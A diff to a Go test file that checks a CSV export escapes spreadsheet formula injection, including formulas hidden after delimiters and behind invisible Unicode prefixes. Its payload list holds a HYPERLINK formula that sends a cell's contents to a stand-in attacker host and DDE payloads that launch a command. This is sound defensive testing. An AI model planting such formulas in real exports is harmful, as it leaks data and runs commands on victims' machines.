@@ -88,7 +88,38 @@ func TestEmptyExports(t *testing.T) {
 // formulas are texts that some spreadsheet runs.
 var formulas = []string{
 	`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
-	"＝1+1", "＋1", "－1", "＠SUM(1)", "=", "-",
+	"＝1+1", "＋1", "－1", "＠SUM(1)", "=", "-", " =1+1", "\u00a0=1", "\ufeff=1", "\u200b+1",
+}
+
+// hidden are formulas behind what some take for the border of a cell, and how
+// they are written.
+var hidden = map[string]string{
+	"x;=1+1;y": "x;'=1+1;y", "x\t@SUM(1)": "x\t'@SUM(1)", "a| -1": "a|' -1", "a\n=1": "a\n'=1", ";=1": ";'=1", "=1;=2": "'=1;'=2",
+}
+
+func TestHiddenFormulas(t *testing.T) {
+	d := newDesk(t, "UTC")
+	var records []affiliate.Commission
+	for text := range hidden {
+		c := trade(today, spot, len(records), "1")
+		c.Symbol = text
+		records = append(records, c)
+	}
+	d.read("main", spot, days(0, 0), records...)
+	text, _ := d.export(reports.ExportCommissions, reports.CSV, d.ask("range=today"))
+	lines, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+	if err != nil || len(lines) != len(hidden)+1 {
+		t.Fatalf("%d lines, %v", len(lines), err)
+	}
+	written := map[string]bool{}
+	for _, line := range lines[1:] {
+		written[line[6]] = true
+	}
+	for text, want := range hidden {
+		if !written[want] {
+			t.Errorf("%q is not written as %q: %v", text, want, written)
+		}
+	}
 }
 
 // harmless are texts that are written as they are.
